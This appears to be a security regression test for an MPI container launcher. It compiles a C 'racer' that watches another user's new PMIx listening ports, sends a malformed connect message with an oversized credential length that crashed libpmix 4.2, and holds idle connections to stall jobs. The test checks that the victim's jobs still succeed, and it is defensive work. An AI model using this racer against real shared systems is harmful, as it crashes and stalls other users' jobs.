#!/bin/bash
# 31-pmix-race.sh - another local user races the PMIx port of launch-mode
# jobs (`mpictr -n 2`) from the moment it appears in /proc/net/tcp, before
# the gate can take it over (libpmix 4.2 listens and accepts inside
# PMIx_server_init). The attacker A's racer polls /proc/net/tcp in a loop;
# on each new listening port of V it sends a connect message whose
# credential length runs past its end (libpmix copied that far: SIGSEGV)
# and holds two idle connections (libpmix read them with blocking reads:
# PMIx_server_init, and the job, stalled for as long as they were held).
# Every job of V must succeed without a stall; SIGTERM during a held
# connection must end the job at once; the launcher ignores SIGPIPE.
# Run as root, which only switches users.
. "$(dirname "$0")/../integration/lib.sh"

V=${MPICTR_TEST_VICTIM:-mpictr-test2}
A=${MPICTR_TEST_ATTACKER:-mpictr-test}
RUNS=${MPICTR_RACE_RUNS:-50}
require_two_users "$A" "$V" "$V"
command -v cc >/dev/null || { need "a C compiler" "the racer is built in the test"; done_testing; exit; }
IMG=$(test_images mpi) || { need "mpi image" "tests/images/build.sh failed"; done_testing; exit; }
VUID=$(id -u "$V")

W=$(mktemp -d /var/tmp/mpictr-pmix-race.XXXXXX) || exit 1
chmod 0755 "$W"
ln -s "$IMG/mpi.sif" "$W/mpi.sif"
trap 't_cleanup; pkill -KILL -u "$VUID" -f "$W/" 2>/dev/null; pkill -KILL -u "$A" -f "$W/" 2>/dev/null; rm -rf "$W"' EXIT
cd "$W" || exit 1

cat >"$W/racer.c" <<'EOF'
/* racer UID SECONDS: connect to every new listening 127.0.0.1 TCP port of
 * UID as soon as /proc/net/tcp shows it; send a malformed connect message
 * on one connection, hold two idle ones. Prints "hit PORT" per listener. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
static int dial(unsigned port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
	int s = socket(AF_INET, SOCK_STREAM, 0);
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
		close(s);
		return -1;
	}
	return s;
}
int main(int argc, char **argv)
{
	unsigned uid = (unsigned)atoi(argv[1]);
	unsigned long seen[4096]; /* socket inodes: ports come back */
	size_t nseen = 0;
	time_t end = time(NULL) + atoi(argv[2]);
	/* header: pindex -1, tag ~0, nbytes 64; then "native", a credential
	 * length of 2 GiB, nothing behind it */
	unsigned char msg[16 + 64] = {0};
	memset(msg, 0xff, 8);
	msg[8] = 64;
	memcpy(msg + 16, "native", 7);
	msg[23] = 0x7f, msg[24] = 0xff, msg[25] = 0xff, msg[26] = 0xff;
	while (time(NULL) < end) {
		char line[512];
		FILE *f = fopen("/proc/net/tcp", "r");
		while (f && fgets(line, sizeof(line), f)) {
			unsigned la, lp, st, u;
			unsigned long ino;
			size_t i;
			int s;
			if (sscanf(line, " %*u: %x:%x %*x:%*x %x %*s %*s %*s %u %*u %lu",
				   &la, &lp, &st, &u, &ino) != 5 || st != 0x0A ||
			    u != uid || la != 0x0100007F)
				continue;
			for (i = 0; i < nseen && seen[i] != ino; i++)
				;
			if (i < nseen || nseen == 4096)
				continue;
			seen[nseen++] = ino;
			if ((s = dial(lp)) >= 0)
				send(s, msg, sizeof(msg), MSG_NOSIGNAL);
			dial(lp);
			dial(lp); /* idle, held until the racer ends */
			printf("hit %u\n", lp);
			fflush(stdout);
		}
		if (f)
			fclose(f);
	}
	return 0;
}
EOF
cc -O2 -o "$W/racer" "$W/racer.c" || { need "the racer" "cc failed"; done_testing; exit; }
chmod a+rx "$W/racer"

# run_v CMD...: one job of V; prints "STATUS MILLISECONDS"
run_v() {
	local t0 st
	t0=$(date +%s%N)
	runuser -u "$V" -- env TMPDIR=/tmp timeout -k 5 60 "$MPICTR" -n 2 "$W/mpi.sif" "$@" >>"$W/v.out" 2>&1
	st=$?
	echo "$st $((($(date +%s%N) - t0) / 1000000))"
}

# Control: V's jobs alone, for their usual time.
base=0
for _ in 1 2 3; do
	read -r st ms < <(run_v true)
	[ "$st" = 0 ] || base=-1
	[ "$base" -ge 0 ] && [ "$ms" -gt "$base" ] && base=$ms
done
echo "# control: slowest of 3 jobs alone: $base ms" >&2
judge_ok() { cp "$W/$2" "$T_OUT" 2>/dev/null; t_report "$1" "$3"; }
ok "control: V's jobs succeed without the attacker" [ "$base" -gt 0 ]

# The race: RUNS jobs of V while A's racer runs.
runuser -u "$A" -- "$W/racer" "$VUID" 100000 >"$W/racer.out" 2>&1 &
RACER=$!
sleep 0.2
: >"$W/runs"
for _ in $(seq "$RUNS"); do run_v true >>"$W/runs"; done
kill "$RACER" 2>/dev/null; wait "$RACER" 2>/dev/null
bad=$(awk '$1 != 0' "$W/runs" | wc -l)
slow=$(awk -v lim=$((base + 1500)) '$2 > lim' "$W/runs" | wc -l)
max=$(sort -k2 -n "$W/runs" | tail -1 | cut -d' ' -f2)
hits=$(grep -c '^hit' "$W/racer.out")
early=$(grep -c "closed at libpmix's accept" "$W/v.out")
echo "# $RUNS jobs raced: $hits ports hit, $early connections closed before the gate, slowest $max ms, $bad failed, $slow slow" >&2
{ cat "$W/runs"; tail -40 "$W/v.out"; } >"$W/log"
judge_ok "the racer reached V's port in most jobs ($hits of $RUNS: it sees them as they appear)" log $((hits * 5 < RUNS * 4))
judge_ok "... and landed before the gate's takeover in some jobs ($early connections)" log $((early == 0))
judge_ok "every one of V's $RUNS jobs ends with 0 (no crash, no SIGPIPE)" log $((bad != 0))
judge_ok "... and none stalls (each within 1.5 s of the slowest job alone: $base ms)" log $((slow != 0))
judge_ok "... no launcher crashed in libpmix" log "$(grep -qiE 'segmentation|core dumped|signal 11' "$W/v.out" && echo 1 || echo 0)"

# SIGTERM while the racer holds its connections: the job ends at once.
runuser -u "$A" -- "$W/racer" "$VUID" 30 >"$W/racer2.out" 2>&1 &
RACER=$!
sleep 0.2
runuser -u "$V" -- env TMPDIR=/tmp "$MPICTR" -n 2 "$W/mpi.sif" sleep 30 >"$W/v2.out" 2>&1 &
VJOB=$!
for _ in $(seq 100); do grep -q '^hit' "$W/racer2.out" && break; sleep 0.05; done
sleep 1
VPID=$(pgrep -o -u "$VUID" -f "^$MPICTR -n 2 $W/mpi.sif sleep 30")
sigign=$(awk '/^SigIgn:/ { print $2 }' "/proc/$VPID/status" 2>/dev/null)
judge_ok "V's launcher ignores SIGPIPE (SigIgn $sigign)" v2.out $((((16#${sigign:-0} >> 12) & 1) == 0))
t0=$(date +%s%N)
[ -n "$VPID" ] && kill -TERM "$VPID"
for _ in $(seq 100); do kill -0 "$VJOB" 2>/dev/null || break; sleep 0.05; done
gone=$(kill -0 "$VJOB" 2>/dev/null && echo 0 || echo 1)
[ -n "$VPID" ] || gone=0 # it was not running: crashed before
ms=$((($(date +%s%N) - t0) / 1000000))
kill "$RACER" 2>/dev/null; wait "$RACER" 2>/dev/null
pkill -KILL -u "$VUID" -f "$W/" 2>/dev/null; wait "$VJOB" 2>/dev/null
echo "# SIGTERM to end: $ms ms" >&2
judge_ok "SIGTERM while A holds connections ends V's job within 5 s ($ms ms)" v2.out $((gone != 1))

# Node daemon mode (srun, one mpictr per node, the upstream agent as
# Slurm's client) serves PMIx through the same code: the same race.
. "$ROOT/tests/slurm/env.sh"
if ! slurm_up; then
	need "single-node Slurm answers sinfo" "the Slurm cluster (sudo tests/slurm/cluster.sh start)"
else
	DRUNS=${MPICTR_RACE_DAEMON_RUNS:-15}
	# run_d: one node-daemon job of V; prints "STATUS MILLISECONDS", the
	# time of mpictr in the step (not of the queue: the cluster is shared)
	run_d() {
		local st ms
		# shellcheck disable=SC2016 # expanded in the step
		runuser -u "$V" -- env TMPDIR=/tmp SLURM_CONF="$SLURM_CONF" timeout -k 5 120 \
			srun -O -n 1 --mpi=pmix sh -c 't0=$(date +%s%N); "$0" -n 2 "$1" true; st=$?
				echo "ELAPSED $((($(date +%s%N) - t0) / 1000000))"; exit $st' \
			"$MPICTR" "$W/mpi.sif" >"$W/d.one" 2>&1
		st=$?
		cat "$W/d.one" >>"$W/d.out"
		ms=$(sed -n 's/^ELAPSED //p' "$W/d.one")
		echo "$st ${ms:-999999}"
	}
	run_d >/dev/null # warm-up: the first step of a cold cluster is slow
	dbase=0
	for _ in 1 2; do
		read -r st ms < <(run_d)
		[ "$st" = 0 ] || dbase=-1
		[ "$dbase" -ge 0 ] && [ "$ms" -gt "$dbase" ] && dbase=$ms
	done
	echo "# node daemon control: slowest of 2 jobs alone: $dbase ms" >&2
	ok "node daemon control: V's srun jobs succeed without the attacker" [ "$dbase" -gt 0 ]
	: >"$W/d.out"
	runuser -u "$A" -- "$W/racer" "$VUID" 100000 >"$W/racer3.out" 2>&1 &
	RACER=$!
	sleep 0.2
	: >"$W/druns"
	for _ in $(seq "$DRUNS"); do run_d >>"$W/druns"; done
	kill "$RACER" 2>/dev/null; wait "$RACER" 2>/dev/null
	bad=$(awk '$1 != 0' "$W/druns" | wc -l)
	slow=$(awk -v lim=$((dbase + 1500)) '$2 > lim' "$W/druns" | wc -l)
	max=$(sort -k2 -n "$W/druns" | tail -1 | cut -d' ' -f2)
	hits=$(grep -c '^hit' "$W/racer3.out")
	early=$(grep -c "closed at libpmix's accept" "$W/d.out")
	echo "# $DRUNS node-daemon jobs raced: $hits listeners hit, $early connections closed before the gate, slowest $max ms, $bad failed, $slow slow" >&2
	{ cat "$W/druns"; tail -40 "$W/d.out"; } >"$W/log"
	judge_ok "node daemon: the racer reached V's listeners ($hits of $DRUNS)" log $((hits * 5 < DRUNS * 4))
	judge_ok "node daemon: every one of V's $DRUNS srun jobs ends with 0" log $((bad != 0))
	judge_ok "... none stalls (within 1.5 s of the slowest alone: $dbase ms)" log $((slow != 0))
	judge_ok "... no launcher crashed in libpmix" log "$(grep -qiE 'segmentation|core dumped|signal 11' "$W/d.out" && echo 1 || echo 0)"
fi

done_testing
